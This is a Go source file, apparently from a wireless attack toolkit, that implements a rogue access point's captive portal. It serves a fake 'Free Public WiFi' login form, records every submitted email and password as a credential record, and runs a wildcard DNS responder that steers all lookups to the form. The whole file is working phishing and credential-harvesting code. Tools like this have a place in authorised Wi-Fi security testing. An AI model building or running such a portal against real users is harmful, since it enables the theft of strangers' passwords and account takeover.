package portal

import (
	"context"
	"net"
	"net/http"

	"github.com/gorilla/mux"
	"github.com/lcalzada-xor/wdeck/internal/core/domain"
	"github.com/lcalzada-xor/wdeck/internal/core/logbuf"
	"github.com/lcalzada-xor/wdeck/internal/core/ports"
	"github.com/lcalzada-xor/wdeck/internal/telemetry"
)

const (
	captiveLoginPage = `<html><head><title>Login Required</title></head>` +
		`<body><h1>Free Public WiFi</h1>` +
		`<p>Please login to access the internet</p>` +
		`<form method='post' action='/login'>` +
		`Email: <input type='text' name='email'><br>` +
		`Password: <input type='password' name='password'><br>` +
		`<input type='submit' value='Login'>` +
		`</form></body></html>`

	captiveSuccessPage = `<html><head><title>Login Successful</title></head>` +
		`<body><h1>Login Successful</h1>` +
		`<p>You are now connected to the internet</p>` +
		`</body></html>`

	captiveRedirectPage = `<html><body><h1>Free Public WiFi</h1>` +
		`<p>Redirecting to login page...</p></body></html>`
)

// CaptiveOptions configures the rogue access point's portal.
type CaptiveOptions struct {
	Addr    string // HTTP listen address
	DNSAddr string // DNS listen address; empty disables the responder
	APAddr  net.IP // address every DNS query resolves to
}

// Captive is the rogue AP portal: a login form whose submissions are
// published as credential records, plus a wildcard DNS responder that
// sends every lookup to the form.
type Captive struct {
	creds *logbuf.Feed[domain.CredentialRecord]
	http  *httpServer
	dns   *DNSResponder
}

var _ ports.Portal = (*Captive)(nil)

// NewCaptive creates a stopped captive portal publishing into creds.
func NewCaptive(opts CaptiveOptions, creds *logbuf.Feed[domain.CredentialRecord]) *Captive {
	c := &Captive{creds: creds}
	c.http = newHTTPServer("captive-portal", opts.Addr, c.Handler())
	if opts.DNSAddr != "" {
		c.dns = NewDNSResponder(opts.DNSAddr, opts.APAddr)
	}
	return c
}

// Handler returns the portal's routes.
func (c *Captive) Handler() http.Handler {
	r := mux.NewRouter()
	r.HandleFunc("/", c.handleRoot)
	r.HandleFunc("/login", c.handleLogin)
	r.NotFoundHandler = http.HandlerFunc(c.handleNotFound)
	return r
}

// Start brings up DNS and then HTTP.
func (c *Captive) Start(ctx context.Context) error {
	if c.dns != nil {
		if err := c.dns.Start(); err != nil {
			return err
		}
	}
	if err := c.http.start(); err != nil {
		if c.dns != nil {
			c.dns.Stop()
		}
		return err
	}
	return nil
}

// Stop shuts both listeners down.
func (c *Captive) Stop(ctx context.Context) error {
	err := c.http.stop(ctx)
	if c.dns != nil {
		c.dns.Stop()
	}
	return err
}

// Addr returns the bound HTTP address.
func (c *Captive) Addr() string { return c.http.boundAddr() }

func (c *Captive) handleRoot(w http.ResponseWriter, r *http.Request) {
	telemetry.PortalRequests.WithLabelValues("captive", "root").Inc()
	writeHTML(w, http.StatusOK, captiveLoginPage)
}

func (c *Captive) handleLogin(w http.ResponseWriter, r *http.Request) {
	telemetry.PortalRequests.WithLabelValues("captive", "login").Inc()

	// Stored exactly as submitted, empty fields included.
	rec := domain.NewCredentialRecord(r.FormValue("email"), r.FormValue("password"))
	if !c.creds.Publish(rec) {
		telemetry.LogLinesDropped.WithLabelValues("credentials").Inc()
	}
	writeHTML(w, http.StatusOK, captiveSuccessPage)
}

func (c *Captive) handleNotFound(w http.ResponseWriter, r *http.Request) {
	telemetry.PortalRequests.WithLabelValues("captive", "not_found").Inc()
	writeHTML(w, http.StatusOK, captiveRedirectPage)
}

func writeHTML(w http.ResponseWriter, status int, body string) {
	w.Header().Set("Content-Type", "text/html")
	w.WriteHeader(status)
	w.Write([]byte(body))
}
